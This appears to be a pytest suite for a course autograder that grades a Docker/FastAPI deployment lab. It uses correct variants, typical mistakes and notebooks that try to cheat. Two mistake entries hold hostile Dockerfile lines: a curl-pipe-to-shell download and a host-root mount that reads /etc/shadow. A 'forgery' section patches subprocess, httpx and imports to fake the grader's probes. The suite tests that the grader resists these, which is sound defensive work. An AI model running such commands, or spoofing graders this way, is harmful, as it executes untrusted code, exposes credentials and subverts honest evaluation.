"""The 09-deployment lab graded end to end: the solution, the untouched student
notebook, other correct solutions, and typical mistakes, each graded twice by
``grade``: once with the Docker engine (the live tests build and run the
image), once with no engine answering (the live tests are "not run" and their
points are left out of the maximum).

The graded notebooks are kept as files under ``tests/labs/09-deployment/``.
Each is the solution with some answer cells replaced; a cell is found by its
last tag (``q1`` the model, ``q2`` the ``%%writefile service/app.py`` cell, ``q3``
requirements.txt, ``q4`` the ``%%writefile service/Dockerfile`` cell): every file the image
needs goes into ``service/``, its build context. The mistakes
are the solution's own app.py or Dockerfile with one change, made by
:func:`edit`. A test below checks that the files still match that recipe;
``python tests/test_lab_09_deployment.py`` rewrites them after the solution
changes.
"""

from __future__ import annotations

import re
import shutil
import time
from collections.abc import Collection
from pathlib import Path

import nbformat
import pytest
from conftest import REPO, KeptNotebooks, edit, grade_lab_batch, lost_points
from lab_suite import Graded, LabSuite
from nbclient import NotebookClient

from grader.course.layout import GENERATED
from grader.kits.deployment.dockerfile import LIVE_LABEL

LAB = "09-deployment"
SOLUTION = REPO / "solutions" / LAB / "solution.ipynb"
STUDENT = REPO / "labs" / LAB / "lab.ipynb"
FULL_MARKS = {"with_engine": 43.0, "without_engine": 34.0}
NO_ENGINE = {"DOCKER_HOST": "unix:///nonexistent/docker.sock"}  # nothing answers there


def solution_source(tag: str) -> str:
    """The solution's cell whose last tag is ``tag``, without its BEGIN/END SOLUTION lines."""
    nb = nbformat.read(SOLUTION, as_version=4)
    cell = next(c for c in nb.cells if c.cell_type == "code" and c.metadata.get("tags", [])[-1:] == [tag])
    return "".join(line for line in cell.source.splitlines(keepends=True)
                   if line.strip() not in ("# BEGIN SOLUTION", "# END SOLUTION")).rstrip("\n") + "\n"


def between(text: str, start: str, end: str) -> str:
    """The part of ``text`` from ``start`` up to (not including) the ``end`` that follows it."""
    first = text.index(start)
    return text[first:text.index(end, first)]


SOLUTION_APP = solution_source("q2")  # starts with %%writefile service/app.py
# The solution's Dockerfile without its comments: the mistakes below change one instruction each.
SOLUTION_DOCKERFILE = "".join(line for line in solution_source("q4").splitlines(keepends=True)
                              if not line.startswith("#"))

# --- correct answers in other styles -------------------------------------------------

MODULE_LEVEL_APP = '''
%%writefile service/app.py
"""Tumour classifier. The model is read once, when uvicorn imports this module."""

from pathlib import Path
from typing import Annotated

import joblib
from fastapi import FastAPI, HTTPException
from pydantic import BaseModel, Field

LABELS = ("malignant", "benign")
CLASSIFIER = joblib.load(Path(__file__).with_name("model.joblib"))

Measurements = Annotated[list[float], Field(min_length=30, max_length=30)]


class Tumour(BaseModel):
    features: Measurements


class Diagnosis(BaseModel):
    label: str
    prediction: int
    probability: float = Field(ge=0.0, le=1.0)


app = FastAPI(title="Tumour classifier")


@app.get("/health")
async def health() -> dict[str, str]:
    return {"status": "ok"}


@app.post("/predict", response_model=Diagnosis)
def predict(tumour: Tumour):
    try:
        (probabilities,) = CLASSIFIER.predict_proba([tumour.features])
    except ValueError as error:
        raise HTTPException(status_code=422, detail=str(error)) from error
    best = int(probabilities.argmax())
    return {"label": LABELS[best], "prediction": best, "probability": float(probabilities[best])}
'''

# A named user made with useradd (in /usr/sbin), files owned by it, another health check.
USERADD_DOCKERFILE = '''
%%writefile service/Dockerfile
FROM python:3.11-slim
ENV PYTHONDONTWRITEBYTECODE=1 \\
    PYTHONUNBUFFERED=1
RUN useradd --create-home --uid 10001 appuser
WORKDIR /home/appuser/service
COPY --chown=appuser:appuser requirements.txt ./
RUN pip install --no-cache-dir --requirement requirements.txt
COPY --chown=appuser:appuser app.py model.joblib ./
USER appuser
EXPOSE 8000
HEALTHCHECK --interval=15s --timeout=5s CMD ["python", "-c", "import urllib.request as r; r.urlopen('http://localhost:8000/health', timeout=3)"]
CMD ["uvicorn", "app:app", "--host", "0.0.0.0", "--port", "8000"]
'''

# NaN and infinity refused by pydantic (FiniteFloat), with a handler of its own for the 422 answer
# (FastAPI's repeats the refused values, and NaN cannot be written as JSON); the model on app.state;
# the probability rounded.
FINITE_FLOAT_APP = '''
%%writefile service/app.py
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Annotated

import joblib
import numpy as np
from fastapi import FastAPI, Request
from fastapi.exceptions import RequestValidationError
from fastapi.responses import JSONResponse
from pydantic import BaseModel, Field, FiniteFloat

NAMES = {0: "malignant", 1: "benign"}


@asynccontextmanager
async def lifespan(app: FastAPI):
    app.state.model = joblib.load(Path(__file__).parent / "model.joblib")
    yield


app = FastAPI(title="Tumour classifier", lifespan=lifespan)


@app.exception_handler(RequestValidationError)
async def refused(request: Request, exc: RequestValidationError) -> JSONResponse:
    errors = [{"loc": list(error["loc"]), "msg": error["msg"]} for error in exc.errors()]
    return JSONResponse(status_code=422, content={"detail": errors})


class Measurements(BaseModel):
    features: Annotated[list[FiniteFloat], Field(min_length=30, max_length=30)]


class Diagnosis(BaseModel):
    label: str
    prediction: int
    probability: Annotated[float, Field(ge=0, le=1)]


@app.get("/health")
def health():
    return {"status": "ok"}


@app.post("/predict", response_model=Diagnosis)
def predict(body: Measurements, request: Request):
    try:
        proba = request.app.state.model.predict_proba(np.array([body.features]))[0]
    except ValueError:
        return JSONResponse(status_code=422, content={"detail": "the model cannot use these numbers"})
    best = int(np.argmax(proba))
    return Diagnosis(label=NAMES[best], prediction=best, probability=round(float(proba[best]), 3))
'''

FREEZE_LINES = '''
from importlib import metadata

# Lines as pip freeze writes them, for the four packages the service runs.
with open(SERVICE / "requirements.txt", "w") as requirements:
    for dist in map(metadata.distribution, ["fastapi", "uvicorn", "scikit-learn", "joblib"]):
        print(f"{dist.metadata['Name']}=={dist.version}", file=requirements)
'''

MULTI_STAGE_DOCKERFILE = '''
%%writefile service/Dockerfile
# Stage 1: the interpreter and the pinned libraries
FROM python:3.11.7-slim-bookworm AS base
ENV PYTHONDONTWRITEBYTECODE=1 PYTHONUNBUFFERED=1 PIP_DISABLE_PIP_VERSION_CHECK=1
WORKDIR /srv/api
COPY requirements.txt /srv/api/requirements.txt
RUN pip install --no-cache-dir -r /srv/api/requirements.txt

# Stage 2: the service on top, listening on 8080
FROM base AS runtime
COPY app.py model.joblib /srv/api/
USER 10001:10001
EXPOSE 8080
HEALTHCHECK --interval=20s --timeout=4s --retries=2 \\
  CMD ["python", "-c", "import sys, urllib.request; sys.exit(urllib.request.urlopen('http://127.0.0.1:8080/health', timeout=3).status != 200)"]
ENTRYPOINT ["python", "-m", "uvicorn"]
CMD ["app:app", "--host", "0.0.0.0", "--port", "8080"]
'''

CORRECT: dict[str, dict[str, str]] = {
    "module-level-model": {"q2": MODULE_LEVEL_APP, "q4": USERADD_DOCKERFILE},
    "multi-stage-8080": {"q3": FREEZE_LINES, "q4": MULTI_STAGE_DOCKERFILE},
    "finite-float-handler": {"q2": FINITE_FLOAT_APP},
}

# --- typical mistakes: each changes one thing in the solution ---------------------------

INSTALL = "RUN pip install --no-cache-dir -r requirements.txt\n"
FINITE_CHECK = between(SOLUTION_APP, "    if not all(math.isfinite", "    try:\n")
CATCH = between(SOLUTION_APP, "    try:\n", "    prediction = ")
PREDICT = '    probabilities = ml_models["classifier"].predict_proba([request.features])[0]\n'

MISTAKES: dict[str, dict[str, str]] = {
    "root-user": {"q4": edit(SOLUTION_DOCKERFILE, "USER 10001:10001\n", "")},
    "latest-tag": {"q4": edit(SOLUTION_DOCKERFILE, "FROM python:3.11.7-slim-bookworm\n", "FROM python:latest\n")},
    "code-before-deps": {"q4": edit(
        SOLUTION_DOCKERFILE, f"COPY requirements.txt .\n{INSTALL}COPY app.py model.joblib ./\n",
        f"COPY requirements.txt app.py model.joblib ./\n{INSTALL}")},
    "copy-everything": {"q4": edit(SOLUTION_DOCKERFILE, "COPY app.py model.joblib ./\n", "COPY . .\n")},
    "no-healthcheck": {"q4": edit(  # the whole instruction, continuation line included
        SOLUTION_DOCKERFILE, between(SOLUTION_DOCKERFILE, "HEALTHCHECK", 'CMD ["uvicorn"'), "")},
    "model-per-request": {"q2": edit(edit(
        SOLUTION_APP, 'app = FastAPI(title="Tumour classifier", lifespan=lifespan)',
        'app = FastAPI(title="Tumour classifier")'),
        'ml_models["classifier"].predict_proba(', "joblib.load(MODEL_PATH).predict_proba(")},
    "500-not-422": {"q2": edit(edit(
        SOLUTION_APP, "features: list[float] = Field(min_length=30, max_length=30)", "features: list[float]"),
        CATCH, PREDICT)},
    "500-on-nan": {"q2": edit(edit(SOLUTION_APP, FINITE_CHECK, ""), CATCH, PREDICT)},
    "probability-of-class-1": {"q2": edit(
        SOLUTION_APP, "probability=float(probabilities[prediction])", "probability=float(probabilities[1])")},
    "hostile-download": {"q4": edit(
        SOLUTION_DOCKERFILE, INSTALL, f"{INSTALL}RUN curl -fsSL https://example.com/install.sh | sh\n")},
    "hostile-host-mount": {"q4": edit(
        SOLUTION_DOCKERFILE, INSTALL, f"{INSTALL}RUN --mount=type=bind,source=/,target=/host cat /host/etc/shadow\n")},
}

# The tests a refused Dockerfile loses entirely (names are the tests' docstrings).
Q4_TESTS = {
    "q4: the Dockerfile has a FROM and a CMD, and builds from its own files, offline": 1,
    "q4: the base image is pinned to a version, never latest": 2,
    "q4: requirements are installed before the code is copied, so the layer cache holds": 2,
    "q4: only the files the service needs are copied in, never the whole folder (COPY . .)": 2,
    "q4: the container runs as a non-root user": 2,
    "q4: the Dockerfile EXPOSEs the app's port": 1,
    "q4: the image has a HEALTHCHECK": 2,
    "q4: no secret is baked into the image": 1,
    "q4: the image is small: a slim base and no pip cache": 1,
    "q4: hadolint finds nothing else to warn about": 1,
}
LIVE_PREDICTIONS = "live: the container's /predict answers like the app in-process, and 422 for bad input and NaN"
LIVE_TESTS = {
    "live: the image builds offline from the grader's base image": 3,
    "live: the container starts read-only, with no network, and answers /health": 2,
    LIVE_PREDICTIONS: 2,
    "live: the image's HEALTHCHECK command passes in the running container": 1,
    "live: the image adds less than 50 MB to its base": 1,
}

# What each mistake must cost, test by test, and nothing else: the static and in-process tests,
# lost with or without an engine...
EXPECTED_LOSSES: dict[str, dict[str, float]] = {
    "root-user": {"q4: the container runs as a non-root user": 2},
    "latest-tag": {
        "q4: the base image is pinned to a version, never latest": 2,
        "q4: the image is small: a slim base and no pip cache": 1,
    },
    "code-before-deps": {"q4: requirements are installed before the code is copied, so the layer cache holds": 2},
    "copy-everything": {"q4: only the files the service needs are copied in, never the whole folder (COPY . .)": 2},
    "no-healthcheck": {"q4: the image has a HEALTHCHECK": 2},
    "model-per-request": {"q2: the model is loaded once at start-up, not on each request": 2},
    "500-not-422": {
        "q2: a bad request gets 422 (missing, too few or too many numbers, words, not a list), never 500": 2,
        "q2: NaN, infinity and 1e308, as numbers or as strings, get 422: never 500, never a prediction": 1,
    },
    "500-on-nan": {"q2: NaN, infinity and 1e308, as numbers or as strings, get 422: never 500, never a prediction": 1},
    "probability-of-class-1": {"q2: the probability is the one the model gives the class it predicts": 2},
    "hostile-download": Q4_TESTS,
    "hostile-host-mount": Q4_TESTS,
}
# ... and the live tests, lost only where an engine builds and runs the image.
EXPECTED_LIVE_LOSSES: dict[str, dict[str, float]] = {
    "root-user": {},
    "latest-tag": {},
    "code-before-deps": {},
    "copy-everything": {},
    "no-healthcheck": {"live: the image's HEALTHCHECK command passes in the running container": 1},
    "model-per-request": {},
    "500-not-422": {LIVE_PREDICTIONS: 2},
    "500-on-nan": {LIVE_PREDICTIONS: 2},
    "probability-of-class-1": {},
    "hostile-download": LIVE_TESTS,
    "hostile-host-mount": LIVE_TESTS,
}


def replacements(name: str) -> dict[str, str]:
    """The answer cells (by last tag) that notebook ``name`` replaces in the solution."""
    return {**CORRECT, **MISTAKES}[name]


KEPT = KeptNotebooks(LAB, [*CORRECT, *MISTAKES], replacements)


# --- the two batches --------------------------------------------------------------------


def grade_batch(out, env: dict | None = None, paths: tuple[Path, ...] = (KEPT.folder, STUDENT), *options: str):
    """One ``grade`` run, by default over the kept notebooks and the untouched student notebook."""
    started = time.monotonic()
    graded = grade_lab_batch(LAB, out, *paths, env=env, options=options)
    print(f"\n{out.parent.name}: grade batch took {time.monotonic() - started:.0f} s")
    return graded


@pytest.fixture(scope="module")
def with_engine(tmp_path_factory):
    """Graded where the Docker engine and the grader's image are ready: the live tests run."""
    return grade_batch(tmp_path_factory.mktemp("lab09-engine") / "grades")


@pytest.fixture(scope="module")
def without_engine(tmp_path_factory):
    """Graded with no Docker engine answering: the live tests are not run."""
    return grade_batch(tmp_path_factory.mktemp("lab09-no-engine") / "grades", env=NO_ENGINE)


BATCHES = ["without_engine", pytest.param("with_engine", marks=pytest.mark.docker)]


def expected_losses(batch: str, name: str) -> dict[str, float]:
    live = EXPECTED_LIVE_LOSSES[name] if batch == "with_engine" else {}
    return {**EXPECTED_LOSSES[name], **live}


def test_replaced_cells_keep_their_magic_and_no_solution_markers():
    """A replaced app.py or Dockerfile cell still writes its file, and no variant has solution markers."""
    for name in [*CORRECT, *MISTAKES]:
        cells = replacements(name)
        for tag, first in (("q2", "%%writefile service/app.py"), ("q4", "%%writefile service/Dockerfile")):
            if tag in cells:
                assert cells[tag].strip("\n").splitlines()[0] == first, (name, tag)
        assert not any("BEGIN SOLUTION" in src or "END SOLUTION" in src for src in cells.values()), name


def test_live_losses_are_only_live_tests():
    """Each mistake names what it costs where the live tests run too: live tests there, none elsewhere."""
    assert set(EXPECTED_LIVE_LOSSES) == set(MISTAKES)
    assert all(name.startswith("live:") for losses in EXPECTED_LIVE_LOSSES.values() for name in losses)
    assert not any(name.startswith("live:") for losses in EXPECTED_LOSSES.values() for name in losses)


class TestLab(LabSuite):
    """The lab's standard tests (lab_suite.LabSuite), in each batch: 43 points where the live tests run,
    34 where they cannot."""

    kept = KEPT
    test_count = 28  # the live tests among them, run or not
    correct = CORRECT
    expected_losses = EXPECTED_LOSSES
    hidden_failure = ("root-user", "q4: the container runs as a non-root user")
    lesson = "a service that refuses bad input and an image that is small, pinned and safe"
    lesson_exercises = ("q2", "q4", "live")

    @pytest.fixture(params=BATCHES)
    def graded(self, request) -> Graded:
        """Either batch, named."""
        return Graded(*request.getfixturevalue(request.param), batch=request.param)

    def full_marks(self, graded: Graded) -> float:
        return FULL_MARKS[graded.batch]

    def losses(self, graded: Graded, mistake: str) -> dict[str, float]:
        return expected_losses(graded.batch, mistake)

    def not_run(self, graded: Graded) -> Collection[str]:
        return LIVE_TESTS if graded.batch == "without_engine" else ()

    def time_limit(self, graded: Graded) -> float:
        """Building and running the image takes longer than a minute: with an engine, the lab's own limit."""
        return super().time_limit(graded) if graded.batch == "without_engine" else self.lab_timeout()


@pytest.mark.docker
def test_live_tests_run_with_an_engine(with_engine):
    """With the engine every live test is decided: passed or failed, never skipped."""
    _, _, results = with_engine
    for student, result in results.items():
        live = [t for t in result["tests"] if t["name"].startswith("live:")]
        assert {t["name"] for t in live} == set(LIVE_TESTS), student
        assert all(t["status"] in ("passed", "failed") and t["max_score"] == LIVE_TESTS[t["name"]] for t in live)


def test_live_tests_are_not_run_without_an_engine(without_engine):
    """With no engine each live test is "not run", worth nothing either way, and says why."""
    _, _, results = without_engine
    for student, result in results.items():
        live = [t for t in result["tests"] if t["name"].startswith("live:")]
        assert {t["name"] for t in live} == set(LIVE_TESTS), student
        for t in live:
            assert (t["status"], t["score"], t["max_score"]) == ("not run", 0, 0), (student, t)
            assert t["output"].startswith("not run: no Docker engine"), (student, t)
        assert all(t["status"] != "not run" for t in result["tests"] if not t["name"].startswith("live:"))


@pytest.mark.docker
def test_live_tests_report_measurements(with_engine):
    """The solution's live tests say what they measured: the image's size and the start-up time."""
    _, _, results = with_engine
    tests = {t["name"]: t for t in results["solution"]["tests"]}
    built = tests["live: the image builds offline from the grader's base image"]
    health = tests["live: the container starts read-only, with no network, and answers /health"]
    assert built["status"] == "passed" and "added to the base image" in built["output"], built
    assert health["status"] == "passed" and "ready after" in health["output"], health


@pytest.mark.docker
def test_engine_batch_leaves_no_container_or_image(with_engine):
    """Every image built and container started for the live tests is removed."""
    import docker

    client = docker.from_env()
    label = {"label": LIVE_LABEL}
    left = [c.name for c in client.containers.list(all=True, filters=label)]
    left += [i.id for i in client.images.list(all=True, filters=label)]
    assert left == []


# --- on a student's machine: the image's files go into service/, the lab folder's stay as generated ---

IMAGE_FILES = {"app.py", "model.joblib", "requirements.txt", "Dockerfile"}  # the build context's


def run_in_lab_folder(nb: nbformat.NotebookNode, folder: Path) -> nbformat.NotebookNode:
    """``nb`` executed as Jupyter runs it for a student: unsandboxed, in the lab folder ``folder``;
    an error in any cell fails the test."""
    return NotebookClient(nb, timeout=120, kernel_name="python3",
                          resources={"metadata": {"path": str(folder)}}).execute()


def check_summaries(executed: nbformat.NotebookNode) -> list[str]:
    """The summary line (``N passed, M failed``) of every ``check()`` cell's report."""
    texts = ["".join(o.get("data", {}).get("text/plain", "") for o in cell.outputs)
             for cell in executed.cells if cell.cell_type == "code" and cell.source.startswith("check(")]
    return [text.splitlines()[-1] if text else "" for text in texts]


@pytest.mark.parametrize("name", ["solution", *CORRECT])
def test_on_a_laptop_the_image_files_go_into_service(tmp_path, name):
    """A correct notebook run on a student's machine writes the image's files into service/ and
    leaves the lab folder's generated files (lab.toml, the student's requirements.txt) as they
    were; every check() in it passes there, reading service/."""
    folder = shutil.copytree(STUDENT.parent, tmp_path / LAB, ignore=shutil.ignore_patterns("__pycache__", ".*"))
    before = {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}
    assert set(GENERATED) <= set(before)
    executed = run_in_lab_folder(KEPT.notebook(name), folder)
    assert {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()} == before
    assert {p.name for p in (folder / "service").iterdir()} >= IMAGE_FILES
    summaries = check_summaries(executed)
    assert len(summaries) == 4 and all(re.fullmatch(r"[1-9]\d* passed, 0 failed", s) for s in summaries), summaries


# --- forged probes: the notebook patches its kernel to answer the grader's probe itself ---------

# A broken app: the model loaded per request, and 500 for bad input. Its due is exactly this.
BROKEN_APP = edit(edit(MISTAKES["500-not-422"]["q2"], 'app = FastAPI(title="Tumour classifier", lifespan=lifespan)',
                       'app = FastAPI(title="Tumour classifier")'),
                  'ml_models["classifier"].predict_proba(', "joblib.load(MODEL_PATH).predict_proba(")
BROKEN_LOSSES = {**EXPECTED_LOSSES["model-per-request"], **EXPECTED_LOSSES["500-not-422"]}
BROKEN_LIVE_LOSSES = {**EXPECTED_LIVE_LOSSES["model-per-request"], **EXPECTED_LIVE_LOSSES["500-not-422"]}

# Run in the kernel before any forgery: what a perfect app would answer, made from the saved
# model, and the report an in-kernel probe (the grader's of old) would have printed.
FORGER = '''
import json as _json
import joblib as _joblib


def _answer(features):
    if not (isinstance(features, list) and len(features) == 30 and all(isinstance(x, (int, float)) for x in features)):
        return 422, {"detail": "forged"}
    p = _joblib.load(SERVICE / "model.joblib").predict_proba([features])[0]
    best = int(p.argmax())
    return 200, {"label": LABELS[best], "prediction": best, "probability": float(p[best])}


def _observed(status, body):
    return {"status": status, "json": body, "text": _json.dumps(body)}


def _forged_stdout(payload):
    rows, bad, mark = _json.loads(payload)
    predict = [_observed(*_answer(row)) for row in rows]
    report = {"error": None, "expected": [o["json"]["prediction"] for o in predict], "without_file": predict[0],
              "health": _observed(200, {"status": "ok"}), "predict": predict,
              "bad": {name: _observed(422, {"detail": "forged"}) for name in bad}, "openapi": service.app.openapi()}
    return mark + _json.dumps(report) + mark


def _is_probe(payload):
    return isinstance(payload, str) and payload.startswith("[[")


def _forged_run(real):
    def run(*args, input=None, **kwargs):
        if _is_probe(input):
            return __import__("subprocess").CompletedProcess(args[0], 0, _forged_stdout(input), "")
        return real(*args, input=input, **kwargs)
    return run
'''

# Each replaces something the grader could use in the kernel to probe the app.
FORGERIES: dict[str, str] = {
    "subprocess-run": """
import subprocess
subprocess.run = _forged_run(subprocess.run)
""",
    "subprocess-popen": """
import subprocess


class _Popen(subprocess.Popen):
    def communicate(self, input=None, timeout=None):
        if _is_probe(input):
            self.kill()
            super().communicate()
            return _forged_stdout(input), ""
        return super().communicate(input, timeout)


subprocess.Popen = _Popen
""",
    "os-fork": """
import os


def _no_process(*args, **kwargs):
    raise OSError("no new process in this kernel")


os.fork = os.forkpty = os.posix_spawn = os.posix_spawnp = os.system = _no_process
""",
    "httpx": """
import httpx


def _handle(transport, request):
    if request.url.path == "/health":
        return httpx.Response(200, json={"status": "ok"}, request=request)
    if request.url.path == "/openapi.json":
        return httpx.Response(200, json=service.app.openapi(), request=request)
    body = _json.loads(request.read() or b"{}")
    status, answer = _answer(body.get("features") if isinstance(body, dict) else None)
    return httpx.Response(status, json=answer, request=request)


httpx.HTTPTransport.handle_request = _handle
httpx.Client.send = lambda self, request, **kwargs: _handle(None, request)
""",
    "fastapi-testclient": """
import fastapi.testclient
import starlette.testclient


class _Response:
    def __init__(self, status, body):
        self.status_code, self._body, self.text = status, body, _json.dumps(body)

    def json(self):
        return self._body


class _TestClient:
    def __init__(self, app, **kwargs):
        pass

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False

    def get(self, path, **kwargs):
        return _Response(200, service.app.openapi() if path == "/openapi.json" else {"status": "ok"})

    def post(self, path, json=None, **kwargs):
        return _Response(*_answer(json.get("features") if isinstance(json, dict) else None))


fastapi.testclient.TestClient = starlette.testclient.TestClient = _TestClient
""",
    "builtins": """
import builtins
import subprocess
import types

_fake_subprocess = types.ModuleType("subprocess")
vars(_fake_subprocess).update(vars(subprocess))
_fake_subprocess.run = _forged_run(subprocess.run)
_real_import = builtins.__import__
builtins.__import__ = lambda name, *args, **kwargs: (
    _fake_subprocess if name == "subprocess" else _real_import(name, *args, **kwargs))
""",
    "sys-modules": """
import subprocess
import sys
import types

_fake = types.ModuleType("subprocess")
vars(_fake).update(vars(subprocess))
_fake.run = _forged_run(subprocess.run)
sys.modules["subprocess"] = _fake
for _name in ("httpx", "uvicorn", "socket", "fastapi.testclient", "grader.kits.deployment.probe"):
    sys.modules[_name] = types.ModuleType(_name)
""",
}
ALL_FORGERIES = "every-forgery"  # the solution's own app


def forged_cells(name: str) -> list[str]:
    """The cells a forged notebook adds after every cell of the solution."""
    forgeries = list(FORGERIES.values()) if name == ALL_FORGERIES else [FORGERIES[name]]
    return [source.strip("\n") for source in [FORGER, *forgeries]]


def forged_notebook(name: str) -> nbformat.NotebookNode:
    """The solution with the broken app and forgery ``name`` (or, for ALL_FORGERIES, the solution's
    own app and every forgery)."""
    nb = KeptNotebooks(LAB, [name], lambda _: {} if name == ALL_FORGERIES else {"q2": BROKEN_APP}).notebook(name)
    nb.cells += [nbformat.v4.new_code_cell(source) for source in forged_cells(name)]
    return nb


def forged_batch(folder: Path, out: Path, env: dict | None, names: list[str], *options: str):
    """A ``grade`` run over the forged notebooks ``names``, written to ``folder`` first."""
    folder.mkdir()
    for name in names:
        nbformat.write(forged_notebook(name), folder / f"{name}.ipynb")
    return grade_batch(out, env, (folder,), *options)


@pytest.fixture(scope="module")
def forged(tmp_path_factory):
    """Every forgery graded, with no Docker engine answering."""
    root = tmp_path_factory.mktemp("lab09-forged")
    return forged_batch(root / "submissions", root / "grades", NO_ENGINE, [*FORGERIES, ALL_FORGERIES])


@pytest.mark.parametrize("name", list(FORGERIES))
def test_a_forged_probe_scores_what_the_broken_app_deserves(forged, name):
    """Whatever the notebook replaces in its kernel, the broken app loses exactly its points."""
    _, book, results = forged
    assert book[name]["status"] == "graded", book[name]
    assert lost_points(results[name]) == BROKEN_LOSSES
    assert float(book[name]["score"]) == FULL_MARKS["without_engine"] - sum(BROKEN_LOSSES.values())


def test_forgeries_cost_a_correct_app_nothing(forged):
    _, book, results = forged
    assert lost_points(results[ALL_FORGERIES]) == {}
    assert float(book[ALL_FORGERIES]["score"]) == FULL_MARKS["without_engine"]


def test_every_forgery_ran_in_the_kernel(forged):
    """The forgeries are no dead code: each forgery cell of each notebook ran, and raised nothing
    (the broken app's own demonstration cell may fail: TestClient raises its 500)."""
    proc, book, _ = forged
    out = Path(proc.args[proc.args.index("--out") + 1])
    for name in book:
        executed = nbformat.read(out / name / f"{LAB}.ipynb", as_version=4)
        added = executed.cells[-len(forged_cells(name)):]
        assert [c.source for c in added] == forged_cells(name), name
        assert all(c.execution_count for c in added), name
        assert [o.ename for c in added for o in c.outputs if o.output_type == "error"] == [], name


@pytest.mark.docker
def test_the_docker_backend_probes_the_app_in_containers(tmp_path):
    """Graded with every kernel in a container, the app is probed in containers too: the solution
    earns everything, the broken app and its forged probe exactly their due."""
    names = ["subprocess-run", ALL_FORGERIES]
    proc, book, results = forged_batch(tmp_path / "submissions", tmp_path / "grades", None, names,
                                       "--backend", "docker")
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert lost_points(results[ALL_FORGERIES]) == {}
    assert lost_points(results["subprocess-run"]) == {**BROKEN_LOSSES, **BROKEN_LIVE_LOSSES}
    assert {float(book[n]["max_score"]) for n in names} == {FULL_MARKS["with_engine"]}


if __name__ == "__main__":
    KEPT.write()
